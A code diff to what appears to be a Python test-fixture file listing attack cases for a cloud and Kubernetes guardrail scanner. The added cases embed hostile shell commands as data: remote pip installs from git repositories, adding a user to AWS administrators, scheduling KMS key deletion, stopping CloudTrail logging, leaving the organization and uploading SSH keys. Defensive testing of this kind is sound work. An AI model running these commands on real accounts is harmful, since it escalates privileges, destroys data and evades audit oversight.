@@ -78,9 +78,9 @@ def route(tag: str) -> tuple[Given, ...]:
                                  "nextHopType": "Internet"}),)  # fmt: skip
 
 
-def installs(requirement: str) -> tuple[Given, ...]:
-    """Returns a job that installs a requirement of Python."""
-    spec = pod({"command": ["sh", "-c", f"pip install --no-deps '{requirement}'"]}, restartPolicy="Never")
+def job(command: str) -> tuple[Given, ...]:
+    """Returns a job that runs a command."""
+    spec = pod({"command": ["sh", "-c", command]}, restartPolicy="Never")
     return (k8s("batch/v1:Job", {"metadata": meta(), "spec": {"template": {"spec": spec}}}),)
 
 
@@ -120,7 +120,7 @@ ATTACKS: tuple[Attack, ...] = (
              "data goes to a stranger's account unseen") for tag in (
         "AzureIoTHub", "AzureEventGrid", "AzureSignalR.WestEurope", "AzureSpringCloud", "AzureWebPubSub")),
     *(Attack(f"a job installs what somebody has under {scheme}", ("FJ-ESC-111",),
-             installs(f"{scheme}://{at}/collector/tools"), "critical",
+             job(f"pip install --no-deps '{scheme}://{at}/collector/tools'"), "critical",
              "whoever owns the repository decides what runs") for scheme, at in (
         ("git+ssh", "git@github.com"), ("git+git", "github.com"), ("hg+https", "bitbucket.org"))),
     Attack("settings of all services are the stranger's repository that a name has", ESC, (az("app:JavaComponent", {
@@ -146,4 +146,13 @@ ATTACKS: tuple[Attack, ...] = (
         "core/v1:ConfigMap", {"metadata": meta(), "data": {
             "config.toml": "[[runners]]\n  [runners.machine]\n    IdleCount = 400\n"}})), "major",
         "four hundred machines wait day and night"),
+    *(Attack(f"a job runs `{command}`", ("FJ-ESC-109",), job(command), "critical",
+             "no guardrail sees the result") for command in (
+        "aws iam add-user-to-group --user-name etl --group-name administrators",
+        "aws kms schedule-key-deletion --key-id alias/ledger --pending-window-in-days 7",
+        "aws cloudtrail stop-logging --name bank", "aws organizations leave-organization",
+        "aws ec2 replace-iam-instance-profile-association --association-id a --iam-instance-profile Name=admin",
+        "aws ecs register-task-definition --cli-input-json file://task.json",
+        "python -c \"import boto3; boto3.client('iam').upload_ssh_public_key(UserName='a', SSHPublicKeyBody='b')\"",
+        "conda create -y -n work numpy", "conda update -y numpy", "micromamba upgrade -n base scipy")),
 )  # fmt: skip
